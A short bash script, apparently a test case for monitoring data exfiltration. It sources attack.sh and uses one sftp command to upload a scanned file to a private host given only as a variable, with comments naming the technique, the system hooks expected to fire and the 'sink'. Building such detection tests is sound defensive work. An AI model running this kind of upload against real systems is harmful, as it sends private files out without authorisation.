#!/usr/bin/env bash
# technique: sftp, whose ssh logs in before the scan is opened
# hooks: file_open (of the scan), socket_recvmsg
# sink: private-ssh

. attack.sh
timeout 20 sftp -q -P "$PORT_SSH" -b - "keeper@$PRIVATE_HOST" <<<"put $SCAN $here.tif"
